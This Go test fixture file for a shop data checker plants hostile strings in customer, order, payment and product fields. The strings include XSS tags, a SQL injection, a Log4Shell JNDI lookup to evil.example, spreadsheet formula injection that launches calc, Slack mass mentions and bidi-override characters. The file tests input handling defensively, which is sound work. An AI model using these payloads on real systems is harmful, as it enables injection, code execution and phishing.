package shop

import (
	"fmt"
	"strings"
)

// HostileTexts gives texts that try to do something where they are shown: mention, link, format, break out of
// markup, a query or a spreadsheet cell, flood, reorder or vanish. They are planted in every text column, in
// right rows and in wrong ones, and in keys.
func HostileTexts() []string {
	return []string{
		"<!channel> <!here> <!everyone> please look",
		"<@U0ADMIN> <@W012A3CDE> <!subteam^S0RESPONDERS|@responders>",
		"@channel @here @everyone",
		"<https://evil.example/login|your invoice> https://evil.example/?q=1 mailto:a@evil.example",
		"[click](https://evil.example) <a href=\"https://evil.example\">x</a><script>alert(1)</script><img src=x onerror=alert(1)>",
		"*bold* _italic_ ~gone~ `code` ```block``` > quote :bomb: &lt;!channel&gt; &amp;",
		"```\nend of code\n```\n<!channel>",
		"first line\nsecond line\r\nthird\ttab\vvertical\fform",
		"Robert'); DROP TABLE orders;-- \" $1 $$ E'\\'' \\N \\. %s %d %n {{.}} ${jndi:ldap://evil.example/a}",
		"=HYPERLINK(\"https://evil.example\",\"x\")",
		"+1+cmd|' /C calc'!A0,\"quoted\",;",
		"\u202egnirts desrever\u202c \u2066isolated\u2069 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
		"zero\u200bwidth\u200djoin\ufeffbom\u00adsoft\u2060word",
		"Z\u0351\u036b\u0343a\u0310\u0363\u036cl\u0361\u0352g\u030d\u0308o\u0321\u0322 \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea",
		"\x01\x02\x1b[31mred\x1b[0m\x07\x08\x7f\u0085\u2028\u2029",
		strings.Repeat("A", 5000),
		strings.Repeat("<!channel>\n", 455),
		"   ",
	}
}

// keyText shortens a hostile text to what fits a key, and makes it a key of its own.
func (b *bed) keyText(text string) string {
	runes := []rune(text)
	return fmt.Sprintf("%s #%d", string(runes[:min(len(runes), 60)]), b.number())
}

func hostile() []seed { return append(hostileWrong(), hostileRight()...) }

// forEachText sows one row for each text and puts their marks together, check by check.
func forEachText(sow func(b *bed, text string) []mark) func(*bed) []mark {
	return func(b *bed) []mark {
		var together []mark
		for _, text := range HostileTexts() {
			for i, m := range sow(b, text) {
				if i == len(together) {
					together = append(together, m)
					continue
				}
				t := &together[i]
				t.keys, t.money = append(t.keys, m.keys...), t.money+m.money
				t.span(m.first)
				t.span(m.last)
			}
		}
		return together
	}
}

func hostileWrong() []seed {
	wrong := func(kind, about string, sow func(b *bed, text string) []mark) seed {
		return seed{kind: kind, times: 1, about: about, sow: forEachText(sow)}
	}
	return []seed{
		wrong("hostile-orphan", "orphaned orders with hostile notes, customers and ids", func(b *bed, text string) []mark {
			o := b.recentOrder()
			o.id, o.note = b.keyText(text), &text
			return b.orphan(o, b.keyText(text))
		}),
		wrong("hostile-total", "wrong totals with hostile notes and ids", func(b *bed, text string) []mark {
			o := b.recentOrder()
			o.id, o.note = b.keyText(text), &text
			return b.mistotal(o, 100)
		}),
		wrong("hostile-unpaid", "unpaid orders with hostile notes and ids", func(b *bed, text string) []mark {
			o := b.recentOrder()
			o.id, o.note, o.payments = b.keyText(text), &text, nil
			return paymentMarks(o, Unpaid, *o.total)
		}),
		wrong("hostile-payment", "payments without order with hostile keys and references", func(b *bed, text string) []mark {
			o := b.recentOrder()
			o.id, o.gone, o.items = b.keyText(text), true, nil
			o.payments[0].id, o.payments[0].ref = b.keyText(text), &text
			return paymentMark(*o.total, o)
		}),
		wrong("hostile-item", "items without order or product with hostile keys", func(b *bed, text string) []mark {
			o := b.recentOrder()
			o.id, o.gone, o.payments, o.items = b.keyText(text), true, nil, o.items[:1]
			o.items[0].id, o.items[0].product = b.keyText(text), ptr(b.keyText(text))
			return append(itemMark(ItemsWithoutOrder, o), itemMark(ItemsWithoutProduct, o)...)
		}),
		wrong("hostile-stock", "wrong stock of products with hostile names and ids", func(b *bed, text string) []mark {
			p := b.plantStrangeProduct(b.keyText(text), text)
			b.restock(p, ptr(9), 8)
			return productMark(ProductStock, p)
		}),
		{
			kind: "hostile-email", times: 1, about: "duplicate customers with hostile emails, names, phones and ids",
			sow: sowHostileTwins,
		},
	}
}

func sowHostileTwins(b *bed) []mark {
	var marks []mark
	for _, text := range HostileTexts() {
		kept, extra := b.plantStrangeCustomer(b.keyText(text), text), b.plantStrangeCustomer(b.keyText(text), text)
		email := b.keyText(text) + "@example.com"
		kept.email, extra.email = &email, &email
		extra.created = b.recently()
		marks = append(marks, customerMark(Duplicate, kept.id, extra)...)
	}
	return marks
}

func hostileRight() []seed {
	right := func(kind, about string, sow func(b *bed, text string) []mark) seed {
		return seed{kind: kind, times: 1, innocent: true, about: about, sow: forEachText(sow)}
	}
	return []seed{
		right("hostile-customer", "right customers with hostile emails, names and phones", func(b *bed, text string) []mark {
			c := b.plantCustomer()
			c.email, c.name, c.phone = ptr(text+fmt.Sprint(b.number())), text, &text
			return customerMark("", "", c)
		}),
		right("hostile-order", "right orders with hostile notes, ids and customers", func(b *bed, text string) []mark {
			o, c := b.recentOrder(), b.plantStrangeCustomer(b.keyText(text), text)
			o.id, o.note = b.keyText(text), &text
			o.customer = &c.id
			marks := append(orderMark(OrphanedOrders, 0, o), orderMark(OrderTotals, 0, o)...)
			return append(marks, orderMark(OrderPayments, 0, o)...)
		}),
		right("hostile-line", "right items and payments with hostile ids and references", func(b *bed, text string) []mark {
			o, p := b.recentOrder(), b.plantStrangeProduct(b.keyText(text), text)
			b.restock(p, ptr(8), 8)
			o.items = o.items[:1]
			o.items[0].id, o.items[0].product = b.keyText(text), &p.id
			o.payments[0].id, o.payments[0].ref = b.keyText(text), &text
			o.setTotal(o.sum())
			marks := append(itemMark(ItemsWithoutProduct, o), itemMark(ItemsWithoutOrder, o)...)
			marks = append(marks, paymentMark(0, o)...)
			return append(marks, productMark(ProductStock, p)...)
		}),
	}
}
